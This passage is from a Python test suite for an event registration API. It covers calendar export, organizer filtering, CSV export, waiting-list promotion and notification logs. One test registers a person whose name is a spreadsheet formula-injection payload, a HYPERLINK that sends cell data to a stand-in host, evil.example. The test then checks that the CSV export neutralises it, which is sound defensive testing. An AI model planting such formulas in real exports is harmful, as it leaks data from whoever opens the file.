        f"/api/events/{event['id']}",
        json={"start": first.isoformat(), "end": (first + timedelta(hours=2)).isoformat()},
        headers=api.auth,
    )
    assert r.status_code == 200, r.text
    assert (await api.client.get(f"/api/registrations/{token}")).status_code == 410


async def test_the_registrants_calendar(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid, online_url="https://webtv.example.org/hearing")
    receipt = await register(api, event["id"], person("Amina Diallo", time_zone="Africa/Dakar"))
    token = await token_for(api, receipt["id"])
    r = await api.client.get(f"/api/registrations/{token}/calendar.ics")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/calendar")
    assert f'filename="event-{event["id"]}.ics"' in r.headers["content-disposition"]
    cal = Calendar.from_ical(r.content)
    assert str(cal["X-WR-TIMEZONE"]) == "Africa/Dakar"
    (vevent,) = cal.walk("VEVENT")
    assert str(vevent["UID"]) == f"{event['uid']}@forum-scheduler"
    assert str(vevent["SUMMARY"]) == "Informal multi-stakeholder hearing"
    start = vevent.decoded("DTSTART")
    assert start == START
    assert start.utcoffset() == timedelta(hours=-4)
    assert vevent.decoded("DTEND") == END
    assert "webtv.example.org" in str(vevent["LOCATION"])
    assert token not in r.text  # the secret link stays out of the calendar
    assert [str(tz["TZID"]) for tz in cal.walk("VTIMEZONE")] == ["America/New_York"]


# --- Organizer views ----------------------------------------------------------------------


async def test_organizer_lists_filters_exports_and_counts(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(
        api, pid, capacity=2, confirmation_required=False,
        questions=[{"key": "note", "label": "Note", "type": "text"}],
    )  # fmt: skip
    eid = event["id"]
    people = [
        person("Amina Diallo", country="SEN", region="West Africa", organisation="Migrants Forum"),
        person('=HYPERLINK("http://evil.example/?x="&A1,"Click")', email="mallory@example.org",
               constituency="academia", region="East Africa", answers={"note": "=1+1"}),
        person("Li Wei", email="li@example.org", constituency="academia", country="CHN",
               region="East Asia"),
        person("Maria Lopez", constituency="member_state", country="MEX", region="Latin America",
               organisation="Red 100% Solidaria"),
    ]  # fmt: skip
    ids = [(await register(api, eid, p))["id"] for p in people]
    amina, mallory, li, maria = ids

    url = f"/api/events/{eid}/registrations"
    assert (await api.client.get(url)).status_code == 401
    stranger = {"Authorization": f"Bearer {await api.new_token('Other secretariat')}"}
    for path in ("", ".csv", "/stats"):
        assert (await api.client.get(url + path, headers=stranger)).status_code == 403
        assert (await api.client.get(url + path)).status_code == 401
    assert (
        await api.client.get(f"/api/events/{eid}/waiting-list", headers=stranger)
    ).status_code == 403
    assert (
        await api.client.get("/api/events/9999/registrations", headers=api.auth)
    ).status_code == 404

    async def found(**params: Any) -> list[int]:
        page = await listed(api, eid, **params)
        assert page["total"] == len(page["items"]) or "limit" in params
        return [r["id"] for r in page["items"]]

    assert await found() == ids
    assert await found(status="confirmed") == [amina, mallory]
    assert await found(status="waiting") == [li, maria]
    assert await found(constituency="academia") == [mallory, li]
    assert await found(region="East Asia") == [li]
    assert await found(country="MEX") == [maria]
    assert await found(q="DIALLO") == [amina]
    assert await found(q="migrants") == [amina]  # the organisation
    assert await found(q="li@example") == [li]  # the email
    # % and _ are searched for as typed, not wildcards.
    assert await found(q="100% S") == [maria]
    assert await found(q="0%s") == await found(q="_") == await found(q="\\") == []
    assert await found(status="waiting", constituency="academia") == [li]
    assert await found(country="FRA") == []
    page = await listed(api, eid, limit=1, offset=1)
    assert ([r["id"] for r in page["items"]], page["total"]) == ([mallory], 4)
    row = (await listed(api, eid, q="diallo"))["items"][0]
    assert (row["email"], row["organisation"], row["country"]) == (
        "amina@example.org", "Migrants Forum", "SEN",
    )  # fmt: skip

    r = await api.client.get(url + ".csv", headers=api.auth)
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [int(x["id"]) for x in rows] == ids
    by_id = {int(x["id"]): x for x in rows}
    assert by_id[mallory]["name"] == "'" + people[1]["name"]  # not a formula any more
    assert all(not x[c].startswith(("=", "+", "-", "@")) for x in rows for c in x)
    assert by_id[amina]["status"] == "confirmed" and by_id[li]["waitlist_seq"] == "1"
    assert by_id[mallory]["answers"] == '{"note":"=1+1"}'
    only_waiting = list(csv.DictReader(io.StringIO(
        (await api.client.get(url + ".csv", params={"status": "waiting"}, headers=api.auth)).text
    )))  # fmt: skip
    assert [int(x["id"]) for x in only_waiting] == [li, maria]

    stats = (await api.client.get(url + "/stats", headers=api.auth)).json()
    assert stats == {
        "total": 4,
        "capacity": 2,
        "seats_taken": 2,
        "by_status": {"confirmed": 2, "waiting": 2},
        "by_constituency": {"academia": 2, "civil_society": 1, "member_state": 1},
        "by_region": {"East Africa": 1, "East Asia": 1, "Latin America": 1, "West Africa": 1},
        "by_country": {"CHN": 1, "KEN": 1, "MEX": 1, "SEN": 1},
    }
    waiting = (await api.client.get(f"/api/events/{eid}/waiting-list", headers=api.auth)).json()
    assert [(w["position"], w["id"], w["name"]) for w in waiting] == [
        (1, li, "Li Wei"), (2, maria, "Maria Lopez"),
    ]  # fmt: skip

    # An organizer cancels Amina: Li, first in line, gets the seat at once.
    cancel = f"{url}/{amina}/cancel"
    assert (await api.client.post(cancel, headers=stranger)).status_code == 403
    r = await api.client.post(cancel, headers=api.auth)
    assert r.status_code == 200, r.text
    assert r.json()["promoted"] == 1
    assert refused(await api.client.post(cancel, headers=api.auth), 409)[0] == "status"
    other_event = await make_event(api, pid, title="Another")
    r = await api.client.post(f"/api/events/{other_event['id']}/registrations/{li}/cancel",
                              headers=api.auth)  # fmt: skip
    assert r.status_code == 404
    assert await statuses(api, eid) == {
        amina: "cancelled", mallory: "confirmed", li: "confirmed", maria: "waiting",
    }  # fmt: skip
    waiting = (await api.client.get(f"/api/events/{eid}/waiting-list", headers=api.auth)).json()
    assert [(w["position"], w["id"]) for w in waiting] == [(1, maria)]
    stats = (await api.client.get(url + "/stats", headers=api.auth)).json()
    assert stats["seats_taken"] == 2
    assert stats["by_status"] == {"cancelled": 1, "confirmed": 2, "waiting": 1}
    await mailed(api, "amina@example.org", "Your registration has been cancelled")
    await mailed(api, "li@example.org", "A seat is available for you")


async def test_notifications_list_what_was_mailed(api: Api) -> None:
    pid = await make_process(api)
    event = await make_event(api, pid, capacity=1)
    a = await register(api, event["id"], person("Amina Diallo"))
    b = await register(api, event["id"], person("Bola Ade", language="fr"))
    assert (await api.client.get("/api/notifications")).status_code == 401

    items = await all_sent(api, 2)
    assert [(n["kind"], n["registration_id"], n["recipient_email"]) for n in items] == [
        ("waitlisted", b["id"], "bola@example.org"),
        ("registration_confirm", a["id"], "amina@example.org"),
    ]  # newest first
    for n in items:
        assert (n["status"], n["attempts"], n["last_error"]) == ("sent", 1, "")
        assert n["event_id"] == event["id"] and n["sent_at"] is not None
        assert n["message_id"].startswith(f"<notification-{n['id']}.")
    assert items[0]["language"] == "fr"
    assert [n["kind"] for n in await notifications(api, kind="waitlisted")] == ["waitlisted"]
    assert await notifications(api, status="failed") == []

    # The mails on disk are the ones listed, one each.
    on_disk = maildir_messages(api.settings.mail_maildir)
    assert sorted(str(m["Message-ID"]) for m in on_disk) == sorted(n["message_id"] for n in items)
    # Another organizer sees none of them.
    stranger = {"Authorization": f"Bearer {await api.new_token('Other secretariat')}"}
    r = await api.client.get("/api/notifications", headers=stranger)
    assert (r.status_code, r.json()["items"]) == (200, [])
    async with database(api) as session:
        assert len(list(await session.scalars(select(Notification)))) == 2
